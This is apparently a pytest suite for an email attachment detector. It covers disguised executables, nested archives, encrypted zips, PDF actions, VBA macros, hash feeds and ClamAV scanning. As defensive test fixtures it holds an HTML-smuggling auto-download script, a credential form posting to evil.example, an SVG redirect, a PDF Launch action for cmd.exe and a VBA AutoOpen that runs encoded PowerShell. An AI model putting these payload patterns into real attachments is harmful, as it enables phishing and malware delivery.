"""Attachments detector: file types by name and content, HTML smuggling, PDFs, Office files,
archives, hash feeds, and the ClamAV connector against a real clamd (custom signature DB)."""

from __future__ import annotations

import io
import shutil
import socket
import subprocess
import tarfile
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from mailsift.config.detectors import ClamavSettings
from mailsift.config.schema import Settings
from mailsift.core.context import ScanContext
from mailsift.core.envelope import Envelope
from mailsift.core.errors import ConfigError, DetectorError
from mailsift.core.findings import Finding, Stage
from mailsift.detectors.attachments import CODES, AttachmentDetector, _vba, build
from mailsift.detectors.base import Detector, Services
from mailsift.detectors.clamd import ClamdClient, ClamdError, parse_reply
from mailsift.detectors.feeds import load_feeds
from mailsift.parsing import parse_message
from mailsift.testing.messages import make_message

EXE = b"MZ\x90\x00" + b"\x00" * 60 + b"This program cannot be run in DOS mode" + b"\x00" * 200


def _scan(attachments: list[tuple[str, bytes, str]], *, text: str = "See attached.\n",
          det: AttachmentDetector | None = None) -> list[Finding]:
    raw = make_message(text=text, attachments=attachments)
    ctx = ScanContext(parse_message(raw), Envelope(), None, True, 0.0)
    return list((det or build(Settings(), Services())).run(ctx))


def _codes(findings: list[Finding]) -> set[str]:
    return {f.code for f in findings}


def _zip(members: dict[str, bytes], password_flag: bool = False) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, content in members.items():
            zf.writestr(name, content)
    data = bytearray(buf.getvalue())
    if password_flag:  # mark every entry encrypted (general purpose bit 0), as zip -e does
        for sig in (b"PK\x03\x04", b"PK\x01\x02"):
            start = 0
            while (pos := data.find(sig, start)) >= 0:
                off = pos + (6 if sig == b"PK\x03\x04" else 8)
                data[off] |= 0x01
                start = pos + 4
    return bytes(data)


def test_contract() -> None:
    det = build(Settings(), Services())
    assert isinstance(det, Detector)
    assert det.stage is Stage.CONTENT and det.codes == frozenset(CODES)
    assert all(c.startswith("ATT_") for c in CODES)


def test_ordinary_attachments_are_clean() -> None:
    found = _scan([("report.pdf", b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF",
                    "application/pdf"),
                   ("fix.patch", b"diff --git a/x b/x\n", "text/x-patch"),
                   ("notes.txt", b"hello", "text/plain")])
    assert found == []


def test_executables_by_name_and_by_content() -> None:
    found = _scan([("invoice.pdf.exe", EXE, "application/octet-stream")])
    assert {"ATT_BLOCKED_TYPE", "ATT_DOUBLE_EXTENSION"} <= _codes(found)
    assert all(f.category == "malware" and f.weight == 1.0 for f in found)
    found = _scan([("holiday.jpg", EXE, "image/jpeg")])
    assert _codes(found) == {"ATT_DISGUISED_EXECUTABLE"}
    found = _scan([("photo\u202egpj.scr", EXE, "application/octet-stream")])
    assert "ATT_DOUBLE_EXTENSION" in _codes(found)


def test_dangerous_member_inside_nested_zip() -> None:
    inner = _zip({"setup.lnk": b"L\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 60})
    outer = _zip({"docs/inner.zip": inner, "readme.txt": b"hi"})
    found = _scan([("docs.zip", outer, "application/zip")])
    f = next(f for f in found if f.code == "ATT_BLOCKED_TYPE")
    assert "setup.lnk" in f.evidence[0] and "inner.zip" in f.evidence[0]


def test_tar_and_gzip_member_names() -> None:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        info = tarfile.TarInfo("payload/run.js")
        info.size = 5
        tar.addfile(info, io.BytesIO(b"alert"))
    found = _scan([("bundle.tgz", buf.getvalue(), "application/gzip")])
    assert "payload/run.js (in bundle.tgz)" in next(f for f in found
                                            if f.code == "ATT_BLOCKED_TYPE").evidence


def test_encrypted_archive_with_and_without_password_in_body() -> None:
    data = _zip({"invoice.doc": b"x" * 100}, password_flag=True)
    found = _scan([("invoice.zip", data, "application/zip")], text="Invoice attached.\n")
    assert "ATT_ENCRYPTED_ARCHIVE" in _codes(found)
    found = _scan([("invoice.zip", data, "application/zip")], text="The password is 4711.\n")
    f = next(f for f in found if f.code == "ATT_ENCRYPTED_ARCHIVE_PASSWORD")
    assert f.weight == 1.0 and f.category == "malware"


def test_html_smuggling_credential_form_and_redirect() -> None:
    smuggle = (b"<html><body><script>var d=atob('TVqQAA==');var b=new Blob([d]);"
               b"var a=document.createElement('a');a.href=URL.createObjectURL(b);"
               b"a.download='inv.iso';a.click();</script></body></html>")
    found = _scan([("Invoice.html", smuggle, "text/html")])
    assert {"ATT_HTML_SMUGGLING", "ATT_HTML_SCRIPT"} <= _codes(found)
    form = (b"<html><form action='https://evil.example/p' method=post>"
            b"<input name=email><input type='password' name='pw'></form></html>")
    f = next(f for f in _scan([("login.htm", form, "text/html")])
             if f.code == "ATT_HTML_CREDENTIAL_FORM")
    assert f.category == "phish" and f.weight == 6.0
    svg = (b"<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg'>"
           b"<script>window.location.href='https://evil.example/'</script></svg>")
    found = _scan([("fax.svg", svg, "image/svg+xml")])
    assert {"ATT_HTML_SCRIPT", "ATT_HTML_REDIRECT"} <= _codes(found)
    assert "ATT_DOUBLE_EXTENSION" in _codes(_scan([("scan.pdf.html", b"<html>hi</html>",
                                                    "text/html")]))


def test_pdf_actions_with_hex_escaped_names_and_streams_skipped() -> None:
    pdf = (b"%PDF-1.7\n1 0 obj << /Type /Catalog /OpenAction 2 0 R >> endobj\n"
           b"2 0 obj << /S /J#61vaScript /JS (app.alert(1)) >> endobj\n%%EOF\n")
    assert "ATT_PDF_AUTO_JAVASCRIPT" in _codes(_scan([("a.pdf", pdf, "application/pdf")]))
    pdf = (b"%PDF-1.7\n1 0 obj << /Type /Action /S /Launch /F (cmd.exe) >> endobj\n"
           b"3 0 obj << /Type /EmbeddedFile >> endobj\n%%EOF\n")
    assert {"ATT_PDF_LAUNCH", "ATT_PDF_EMBEDDED_FILE"} <= _codes(
        _scan([("b.pdf", pdf, "application/pdf")]))
    # "/JS " inside compressed stream bytes is data, not a key
    pdf = b"%PDF-1.7\n4 0 obj << /Length 9 >>\nstream\nxx/JS (x)\nendstream endobj\n%%EOF\n"
    assert _scan([("c.pdf", pdf, "application/pdf")]) == []


def test_office_encrypted_document() -> None:
    from msoffcrypto.format.ooxml import OOXMLFile

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("[Content_Types].xml", '<Types xmlns="http://schemas.openxmlformats.org/'
                                           'package/2006/content-types"/>')
        zf.writestr("word/document.xml", "<w:document/>")
    out = io.BytesIO()
    OOXMLFile(io.BytesIO(buf.getvalue())).encrypt("secret", out)
    found = _scan([("salary.docx", out.getvalue(), "application/octet-stream")])
    assert "ATT_ENCRYPTED_DOCUMENT" in _codes(found)


def test_vba_analysis_through_oletools() -> None:
    # No macro-bearing Office file can be produced offline here; oletools' VBA source analysis
    # is the same code path that runs on the modules it extracts from OLE/OOXML containers.
    source = (b'Attribute VB_Name = "ThisDocument"\r\nSub AutoOpen()\r\n'
              b'  CreateObject("WScript.Shell").Run "powershell -enc AAAA"\r\nEnd Sub\r\n')
    auto, suspicious, has, encrypted = _vba("x.doc", source)
    assert has and not encrypted
    assert "AutoOpen" in auto and {"CreateObject", "powershell"} <= suspicious
    # the detector itself only hands real containers to oletools: text named .doc is text
    assert _scan([("letter.doc", source, "application/msword")]) == []


def test_corrupt_office_file_is_reported_not_clean() -> None:
    data = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600
    found = _scan([("broken.xls", data, "application/vnd.ms-excel")])
    f = next(f for f in found if f.code == "ATT_UNSCANNABLE")
    assert f.category is None and "broken.xls" in f.evidence[0]


def test_hash_block_list(tmp_path: Path) -> None:
    import hashlib

    payload = b"%PDF-1.4 totally a pdf"
    feed = tmp_path / "malware-hashes.txt"
    feed.write_text(f"# comment\n{hashlib.sha256(payload).hexdigest()}  invoice.pdf\n")
    settings = Settings(feeds={"hash_lists": [str(feed)]})
    det = build(settings, Services(feeds=load_feeds(settings.feeds)))
    f = next(f for f in _scan([("invoice.pdf", payload, "application/pdf")], det=det)
             if f.code == "ATT_HASH_BLOCKED")
    assert f.artifact == "feed:malware-hashes" and f.category == "malware"


def test_clamav_needs_a_configured_socket() -> None:
    with pytest.raises(ConfigError):
        build(Settings(attachments={"clamav": True}), Services())


def test_clamd_reply_parsing() -> None:
    assert not parse_reply("stream: OK").infected
    assert parse_reply("stream: Eicar-Test-Signature FOUND").signature == "Eicar-Test-Signature"
    with pytest.raises(ClamdError):
        parse_reply("INSTREAM size limit exceeded. ERROR")


def test_clamd_unreachable_is_an_error_not_clean(tmp_path: Path) -> None:
    det = build(Settings(attachments={"clamav": True},
                         clamav={"socket": str(tmp_path / "none.sock"), "timeout": 1}),
                Services())
    with pytest.raises(DetectorError):
        _scan([("a.txt", b"hello", "text/plain")], det=det)


CLAMD = shutil.which("clamd") or ("/usr/sbin/clamd" if Path("/usr/sbin/clamd").exists() else "")
SIGNATURE = b"mailsift-clamav-test-signature"


@pytest.fixture(scope="module")
def clamd_socket(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    if not CLAMD:
        pytest.skip("clamd is not installed (apt-get install clamav-daemon)")
    base = tmp_path_factory.mktemp("clamd")
    (base / "db").mkdir()
    # A one-line logical-free body signature: clamd needs *a* database, and the official ones
    # cannot be downloaded here. Name:TargetType:Offset:HexSignature (.ndb format).
    (base / "db" / "mailsift.ndb").write_text(f"MailsiftTestSig:0:*:{SIGNATURE.hex()}\n")
    sock = base / "clamd.sock"
    (base / "clamd.conf").write_text(
        f"LocalSocket {sock}\nDatabaseDirectory {base / 'db'}\nForeground true\n"
        f"LogFile {base / 'clamd.log'}\nPidFile {base / 'clamd.pid'}\n")
    proc = subprocess.Popen([CLAMD, "-c", str(base / "clamd.conf")], stdout=subprocess.DEVNULL,
                            stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        if sock.exists():
            try:
                with socket.socket(socket.AF_UNIX) as s:
                    s.connect(str(sock))
                break
            except OSError:
                pass
        if proc.poll() is not None:
            pytest.skip(f"clamd exited with {proc.returncode}; "
                        f"log: {(base / 'clamd.log').read_text()[-500:]}")
        time.sleep(0.1)
    else:
        proc.kill()
        pytest.skip("clamd did not open its socket within 60 s")
    yield str(sock)
    proc.terminate()
    proc.wait(timeout=10)


def test_real_clamd_over_unix_socket(clamd_socket: str) -> None:
    client = ClamdClient(ClamavSettings(socket=clamd_socket, chunk_bytes=1024))
    assert client.ping()
    assert "ClamAV" in client.version()
    assert not client.scan(b"harmless bytes").infected
    big = b"x" * 5000 + SIGNATURE + b"y" * 5000  # spans several INSTREAM chunks
    result = client.scan(big)
    assert result.infected and result.signature.startswith("MailsiftTestSig")
    det = build(Settings(attachments={"clamav": True}, clamav={"socket": clamd_socket}),
                Services())
    found = _scan([("notes.txt", b"hello " + SIGNATURE, "text/plain"),
                   ("clean.txt", b"hello", "text/plain")], det=det)
    f = next(f for f in found if f.code == "ATT_AV_INFECTED")
    assert f.category == "malware" and "notes.txt" in f.evidence[0]
    assert "MailsiftTestSig" in f.evidence[0] and len(f.evidence) == 1


def test_unix_binaries_on_developer_lists_are_not_disguised() -> None:
    elf = b"\x7fELF\x02\x01\x01" + b"\x00" * 200
    assert _scan([("jailhouse.ko", elf, "application/octet-stream")]) == []
    assert "ATT_DISGUISED_EXECUTABLE" in _codes(_scan([("invoice.pdf", elf, "application/pdf")]))
